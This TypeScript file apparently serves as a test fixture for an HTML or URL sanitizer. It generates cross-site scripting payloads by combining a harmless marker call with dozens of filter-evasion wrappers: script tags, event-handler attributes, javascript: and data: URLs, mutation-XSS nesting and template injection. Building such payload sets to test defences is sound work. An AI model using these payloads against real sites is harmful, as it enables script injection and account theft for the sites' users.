/** What people put into fields to make a page run something: shapes known from filters that were got round, in every combination. */

/** Each calls `ran` when a browser takes it for code. */
const calls = ['ran()', 'window.ran()', 'top.ran()', "self['ran']()", 'ran`1`', '(ran)()', 'setTimeout(ran)', '[1].map(ran)'];

const wraps: readonly ((call: string) => string)[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<ScRiPt >${c}</ScRiPt >`,
  (c) => `"><script>${c}</script>`,
  (c) => `'><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `--><script>${c}</script><!--`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src=x onerror=${c}//`,
  (c) => `" onerror="${c}" x="`,
  (c) => `' onmouseover='${c}' x='`,
  (c) => `" autofocus onfocus="${c}" x="`,
  (c) => `<svg onload="${c}">`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><animate onbegin="${c}" attributeName=x dur=1s>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`,
  (c) => `<body onload="${c}">`,
  (c) => `<details open ontoggle="${c}">`,
  (c) => `<video><source onerror="${c}"></video>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<form action="javascript:${c}"><button>x</button></form>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<template><script>${c}</script></template>`,
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `<div style="background:url(javascript:${c})">`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<base href="javascript:${c}//">`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
  (c) => `<input autofocus onfocus="${c}">`,
];

/** Addresses for links. */
const addresses: readonly ((call: string) => string)[] = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => ` javascript:${c}`,
  (c) => `java\tscript:${c}`,
  (c) => `java\nscript:${c}`,
  (c) => `\u0001javascript:${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => `javascript:/*x*/${c}//https://example.vn`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString('base64')}`,
  (c) => `vbscript:${c}`,
  (c) => `https://example.vn/" onclick="${c}`,
  (c) => `https://example.vn/'onmouseover='${c}`,
  (c) => `/tin/"><script>${c}</script>`,
  (c) => `mailto:a@example.vn"><img src=x onerror=${c}>`,
  (c) => `tel:1"><svg onload=${c}>`,
];

export const payloads: readonly string[] = calls.flatMap((call) => wraps.map((wrap) => wrap(call)));
export const hostileAddresses: readonly string[] = calls.flatMap((call) => addresses.map((wrap) => wrap(call)));
